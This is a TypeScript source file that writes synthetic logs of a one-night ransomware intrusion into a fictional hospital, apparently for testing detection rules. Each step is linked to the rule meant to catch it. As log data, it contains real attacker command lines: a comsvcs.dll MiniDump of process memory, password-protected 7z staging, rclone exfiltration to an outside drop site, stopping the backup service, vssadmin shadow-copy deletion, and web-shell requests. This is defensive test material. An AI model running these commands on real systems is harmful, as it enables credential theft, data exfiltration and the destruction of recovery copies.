@@ -1,0 +1,362 @@
+/**
+ * The intrusion of the demo, step by step over one night: from guessed VPN passwords to encrypted shares. Each step
+ * says which of our rules should find it, so that a test can hold the hunt to it.
+ */
+
+import type { Bilingual } from '../../model/lang.ts';
+import { ADMIN, fqdn, OUTSIDE, PEOPLE, PIVOT, SERVERS, SUPPLIER } from './hospital.ts';
+import { combinedLine, dicomAuditLine, fortigateLine, sambaLine, zeekLine } from './lines.ts';
+import type { Night } from './ordinary.ts';
+import { failedLogon, logCleared, logon, processStart, serviceInstalled } from './windows.ts';
+
+const MINUTE = 60_000;
+
+export interface StoryStep {
+  readonly id: string;
+  readonly title: Bilingual;
+  /** First and last record of the step, ISO 8601 UTC. */
+  readonly from: string;
+  readonly to: string;
+  readonly host: string;
+  /** Ids of our rules that should find it; empty when no rule looks for it. */
+  readonly ruleIds: readonly string[];
+}
+
+interface Plot {
+  readonly id: string;
+  readonly title: Bilingual;
+  /** Minutes before the end of the night. */
+  readonly before: number;
+  readonly minutes: number;
+  readonly host: string;
+  readonly ruleIds: readonly string[];
+  write(night: Night, at: number): void;
+}
+
+const PLOTS: readonly Plot[] = [
+  {
+    id: 'vpn-guessing',
+    title: { en: 'VPN passwords guessed', fr: 'Mots de passe du VPN devinés' },
+    before: 375,
+    minutes: 9,
+    host: 'FW-PERIMETRE',
+    ruleIds: ['8544a3a2-8b29-4a0b-9031-bf1d26a366b9'],
+    write: guessVpn,
+  },
+  {
+    id: 'vpn-entry',
+    title: { en: 'Supplier account opens the VPN', fr: 'Le compte du prestataire ouvre le VPN' },
+    before: 364,
+    minutes: 1,
+    host: 'FW-PERIMETRE',
+    ruleIds: [],
+    write: (night, at) => vpnLine(night, at, { user: SUPPLIER.account, action: 'tunnel-up' }),
+  },
+  {
+    id: 'web-shell',
+    title: { en: 'Web shell put on the portal', fr: 'Porte dérobée déposée sur le portail' },
+    before: 352,
+    minutes: 6,
+    host: 'portail',
+    ruleIds: ['3a503978-5c55-4651-aafd-f5dceed11fa7'],
+    write: webShell,
+  },
+  {
+    id: 'desktop-guessing',
+    title: { en: 'Into a workstation by remote desktop', fr: 'Entrée sur un poste par bureau à distance' },
+    before: 335,
+    minutes: 6,
+    host: PIVOT.name,
+    ruleIds: ['e1cf92c7-d728-4743-bcf3-99253f2aca9f'],
+    write: guessDesktop,
+  },
+  {
+    id: 'credential-dump',
+    title: { en: 'Passwords taken from memory', fr: 'Mots de passe pris en mémoire' },
+    before: 310,
+    minutes: 1,
+    host: PIVOT.name,
+    ruleIds: ['9566cd5e-7a35-40ab-901e-1f472014e38b'],
+    write: (night, at) =>
+      run(night, at, {
+        computer: PIVOT.name,
+        account: SUPPLIER.account,
+        image: `${SYSTEM32}rundll32.exe`,
+        command:
+          'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\Windows\\Temp\\d.bin full',
+      }),
+  },
+  {
+    id: 'many-servers',
+    title: { en: 'Administrator account on every server', fr: 'Compte d’administration sur chaque serveur' },
+    before: 295,
+    minutes: 14,
+    host: PIVOT.name,
+    ruleIds: ['c0ce4dd2-f0dc-4328-a051-20006431a0b5'],
+    write: (night, at) =>
+      SERVERS.forEach((server, index) => {
+        night.journal.windows(
+          logon({
+            at: at + index * 2 * MINUTE,
+            computer: server.name,
+            account: ADMIN,
+            address: PIVOT.address,
+            type: 10,
+          }),
+        );
+      }),
+  },
+  {
+    id: 'remote-service',
+    title: { en: 'Programs started through services', fr: 'Programmes lancés par des services' },
+    before: 278,
+    minutes: 6,
+    host: 'SRV-SAUV-01',
+    ruleIds: ['62437657-66f4-45db-8517-5fa8a5133933'],
+    write: (night, at) =>
+      SERVERS.slice(1, 5).forEach((server, index) => {
+        night.journal.windows(
+          serviceInstalled(at + index * MINUTE, server.name, 'kqzd', '%SystemRoot%\\kqzdhvbw.exe'),
+        );
+      }),
+  },
+  {
+    id: 'images-exported',
+    title: { en: 'Images of patients exported', fr: 'Images de patients exportées' },
+    before: 262,
+    minutes: 25,
+    host: 'SRV-PACS-01',
+    ruleIds: ['e13428bd-9196-4da7-9115-5ddad7fa36be'],
+    write: exportImages,
+  },
+  {
+    id: 'staging',
+    title: { en: 'A share packed with a password', fr: 'Un partage empaqueté sous mot de passe' },
+    before: 230,
+    minutes: 1,
+    host: 'SRV-FIC-02',
+    ruleIds: ['f4bfebe3-3cfe-4ef3-8cb2-b68d90262238'],
+    write: (night, at) =>
+      run(night, at, {
+        computer: 'SRV-FIC-02',
+        account: ADMIN,
+        image: 'C:\\ProgramData\\7z.exe',
+        command: '7z.exe a -t7z -mhe=on -pHx71kk -v500m C:\\ProgramData\\d.7z \\\\nas-01\\commun\\radiologie',
+      }),
+  },
+  {
+    id: 'copy-outside',
+    title: { en: 'Data copied outside with rclone', fr: 'Données copiées dehors avec rclone' },
+    before: 210,
+    minutes: 40,
+    host: 'SRV-FIC-02',
+    ruleIds: ['be2d2f0a-117d-450a-a415-8b97e707c1a9', 'b2911d70-cb90-4d08-86e8-066b80412e36'],
+    write: copyOutside,
+  },
+  {
+    id: 'backup-stopped',
+    title: { en: 'Backup service stopped', fr: 'Service de sauvegarde arrêté' },
+    before: 155,
+    minutes: 1,
+    host: 'SRV-SAUV-01',
+    ruleIds: ['aa3bb8d0-d4d5-40b8-84d5-aa793ac975a3'],
+    write: (night, at) =>
+      run(night, at, {
+        computer: 'SRV-SAUV-01',
+        account: ADMIN,
+        image: `${SYSTEM32}net.exe`,
+        command: 'net stop "Veeam Backup Service" /y',
+      }),
+  },
+  {
+    id: 'shadow-copies',
+    title: { en: 'Shadow copies deleted', fr: 'Clichés instantanés supprimés' },
+    before: 152,
+    minutes: 4,
+    host: 'SRV-SAUV-01',
+    ruleIds: ['8abb1303-006e-4d15-8a96-ec2ab19c1e08'],
+    write: (night, at) =>
+      ['SRV-SAUV-01', 'SRV-FIC-02', 'SRV-DPI-01'].forEach((computer, index) => {
+        run(night, at + index * MINUTE, {
+          computer,
+          account: ADMIN,
+          image: `${SYSTEM32}vssadmin.exe`,
+          command: 'vssadmin.exe delete shadows /all /quiet',
+        });
+      }),
+  },
+  {
+    id: 'encryption',
+    title: { en: 'Shares encrypted', fr: 'Partages chiffrés' },
+    before: 145,
+    minutes: 8,
+    host: 'nas-01',
+    ruleIds: ['f29d758f-066d-4caf-b850-8b50d05b614b'],
+    write: encrypt,
+  },
+  {
+    id: 'log-cleared',
+    title: { en: 'Security log cleared', fr: 'Journal de sécurité effacé' },
+    before: 130,
+    minutes: 1,
+    host: 'SRV-SAUV-01',
+    ruleIds: ['07bf3609-abb8-4d4c-8de0-d4a04a62c0d3'],
+    write: (night, at) => night.journal.windows(logCleared(at, 'SRV-SAUV-01', ADMIN)),
+  },
+];
+
+const SYSTEM32 = 'C:\\Windows\\System32\\';
+
+/** Writes the intrusion into the night and tells what was written. */
+export function writeStory(night: Night): StoryStep[] {
+  return PLOTS.map((plot) => {
+    const at = night.endAt - plot.before * MINUTE;
+    plot.write(night, at);
+    const { id, title, host, ruleIds } = plot;
+    return {
+      id,
+      title,
+      host,
+      ruleIds,
+      from: new Date(at).toISOString(),
+      to: new Date(at + plot.minutes * MINUTE).toISOString(),
+    };
+  });
+}
+
+function vpnLine(night: Night, at: number, what: { user: string; action: string; reason?: string }): void {
+  const isUp = what.action === 'tunnel-up';
+  const pairs = {
+    logid: isUp ? '0101039947' : '0101039426',
+    type: 'event',
+    subtype: 'vpn',
+    level: isUp ? 'information' : 'alert',
+    vd: 'root',
+    logdesc: isUp ? 'SSL VPN tunnel up' : 'SSL VPN login fail',
+    tunneltype: isUp ? 'ssl-tunnel' : 'ssl-web',
+    remip: OUTSIDE.attacker,
+    ...(isUp ? { tunnelip: SUPPLIER.vpnAddress } : {}),
+    ...what,
+  };
+  night.journal.line('fortigate', at, fortigateLine(at, pairs));
+}
+
+function guessVpn(night: Night, at: number): void {
+  const users = [...PEOPLE.slice(0, 38).map((person) => person.account), 'admin', SUPPLIER.account];
+  users.forEach((user, index) => {
+    vpnLine(night, at + index * 13_000, {
+      user,
+      action: 'ssl-login-fail',
+      reason: 'sslvpn_login_permission_denied',
+    });
+  });
+}
+
+function webShell(night: Night, at: number): void {
+  const agent = 'python-requests/2.32';
+  const lines: readonly [string, number][] = [
+    ['GET /contact HTTP/1.1', 200],
+    ['POST /contact/piece-jointe HTTP/1.1', 200],
+    ['POST /uploads/2026/facture.php HTTP/1.1', 200],
+    ['POST /uploads/2026/facture.php HTTP/1.1', 200],
+    ['GET /uploads/2026/facture.php?c=id HTTP/1.1', 200],
+  ];
+  lines.forEach(([line, status], index) => {
+    const moment = at + index * 70_000;
+    const request = { address: OUTSIDE.webAttacker, line, status, bytes: 118 + index, agent };
+    night.journal.line('portal', moment, combinedLine(moment, request));
+  });
+}
+
+function guessDesktop(night: Night, at: number): void {
+  const common = { computer: PIVOT.name, account: SUPPLIER.account, address: SUPPLIER.vpnAddress, type: 10 };
+  for (let index = 0; index < 14; index += 1)
+    night.journal.windows(failedLogon({ ...common, at: at + index * 20_000 }));
+  night.journal.windows(logon({ ...common, at: at + 300_000 }));
+}
+
+function run(
+  night: Night,
+  at: number,
+  what: { computer: string; account: string; image: string; command: string },
+): void {
+  night.journal.windows(processStart({ ...what, at, parent: `${SYSTEM32}cmd.exe` }));
+}
+
+function exportImages(night: Night, at: number): void {
+  for (let index = 0; index < 24; index += 1) {
+    const moment = at + index * MINUTE;
+    const audit = {
+      code: '110106',
+      name: 'Export',
+      action: 'R',
+      user: SUPPLIER.account,
+      address: PIVOT.address,
+      patient: `IPP${200_100 + index}`,
+    };
+    night.journal.line('dicom', moment, dicomAuditLine(moment, audit));
+  }
+}
+
+function copyOutside(night: Night, at: number): void {
+  run(night, at, {
+    computer: 'SRV-FIC-02',
+    account: ADMIN,
+    image: 'C:\\ProgramData\\rclone.exe',
+    command: 'rclone.exe copy C:\\ProgramData\\ depot:x --include *.7z.* --transfers 16',
+  });
+  night.journal.line(
+    'dns',
+    at + 1000,
+    zeekLine('dns', at + 1000, {
+      uid: 'DxRc1',
+      'id.orig_h': '10.20.1.8',
+      'id.orig_p': 51_001,
+      'id.resp_h': '10.20.1.5',
+      'id.resp_p': 53,
+      proto: 'udp',
+      query: 'depot.stockage.example',
+      qtype_name: 'A',
+      rcode_name: 'NOERROR',
+      answers: OUTSIDE.dropSite,
+    }),
+  );
+  for (let index = 0; index < 13; index += 1) {
+    const moment = at + 4000 + index * 3 * MINUTE;
+    const values = {
+      uid: `CxRc${index}`,
+      'id.orig_h': '10.20.1.8',
+      'id.orig_p': 51_100 + index,
+      'id.resp_h': OUTSIDE.dropSite,
+      'id.resp_p': 443,
+      proto: 'tcp',
+      service: 'ssl',
+      duration: '171.250000',
+      orig_bytes: 524_288_000,
+      resp_bytes: 1_204_000,
+      conn_state: 'SF',
+      local_orig: 'T',
+      local_resp: 'F',
+      missed_bytes: 0,
+      history: 'ShADadFf',
+      orig_pkts: 371_000,
+      orig_ip_bytes: 539_000_000,
+      resp_pkts: 22_000,
+      resp_ip_bytes: 2_100_000,
+    };
+    night.journal.line('conn', moment, zeekLine('conn', moment, values));
+  }
+}
+
+function encrypt(night: Night, at: number): void {
+  const head = [ADMIN, '10.20.1.8', fqdn('SRV-FIC-02'), 'commun'];
+  for (let index = 0; index < 900; index += 1) {
+    const moment = at + index * 500;
+    const name = `radiologie/comptes-rendus/cr-${String(index).padStart(4, '0')}.odt`;
+    night.journal.line(
+      'samba',
+      moment,
+      sambaLine(moment, [...head, 'renameat', 'ok', name, `${name}.valombre`]),
+    );
+  }
+}
